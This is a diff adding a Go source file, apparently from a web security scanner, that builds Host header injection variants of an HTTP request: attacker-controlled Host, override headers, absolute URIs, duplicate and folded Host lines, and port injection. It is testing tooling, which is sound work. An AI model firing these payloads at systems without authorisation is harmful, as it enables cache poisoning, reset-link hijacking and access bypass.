@@ -0,0 +1,79 @@
+package probe
+
+import "strings"
+
+// HostOverrideHeaders are the headers some stacks trust over Host
+var HostOverrideHeaders = []string{
+	"X-Forwarded-Host",
+	"X-Host",
+	"X-Forwarded-Server",
+	"X-HTTP-Host-Override",
+	"X-Original-Host",
+}
+
+// HostHeader returns the standard Host header attack permutations of raw,
+// injecting attacker (e.g. a collaborator domain) in each position:
+//   - host-replace: Host set to attacker
+//   - absolute-uri: absolute-form target for the original host, Host set to attacker
+//   - absolute-uri-attacker: absolute-form target for attacker, original Host kept
+//   - duplicate-host, duplicate-host-first: a second Host after or before the original
+//   - one variant per HostOverrideHeaders entry, plus forwarded (RFC 7239)
+//   - port-injection: attacker in the port part of the original Host
+//   - port-juggling: original host with an unexpected port
+//   - line-wrapped: an indented attacker Host line before the original
+//   - obs-fold: attacker as a folded continuation of the original Host
+func HostHeader(raw []byte, attacker string) []Variant {
+	base := parseMessage(raw)
+	host := base.get("Host")
+	hostname := host
+	if i := strings.LastIndexByte(host, ':'); i != -1 && !strings.Contains(host[i:], "]") {
+		hostname = host[:i]
+	}
+	hostIndex := base.index("Host")
+
+	var variants []Variant
+	variant := func(name string, edit func(m *message)) {
+		m := base.clone()
+		edit(m)
+		variants = append(variants, Variant{Name: name, Raw: m.build()})
+	}
+
+	variant("host-replace", func(m *message) {
+		m.set("Host", attacker)
+	})
+	variant("absolute-uri", func(m *message) {
+		m.target = m.scheme() + "://" + host + m.path()
+		m.set("Host", attacker)
+	})
+	variant("absolute-uri-attacker", func(m *message) {
+		m.target = m.scheme() + "://" + attacker + m.path()
+	})
+	variant("duplicate-host", func(m *message) {
+		m.insert(hostIndex+1, "Host: "+attacker)
+	})
+	variant("duplicate-host-first", func(m *message) {
+		m.insert(max(hostIndex, 0), "Host: "+attacker)
+	})
+	for _, name := range HostOverrideHeaders {
+		name := name
+		variant(strings.ToLower(name), func(m *message) {
+			m.set(name, attacker)
+		})
+	}
+	variant("forwarded", func(m *message) {
+		m.set("Forwarded", "host="+attacker)
+	})
+	variant("port-injection", func(m *message) {
+		m.set("Host", hostname+":"+attacker)
+	})
+	variant("port-juggling", func(m *message) {
+		m.set("Host", hostname+":1337")
+	})
+	variant("line-wrapped", func(m *message) {
+		m.insert(max(hostIndex, 0), " Host: "+attacker)
+	})
+	variant("obs-fold", func(m *message) {
+		m.insert(hostIndex+1, " "+attacker)
+	})
+	return variants
+}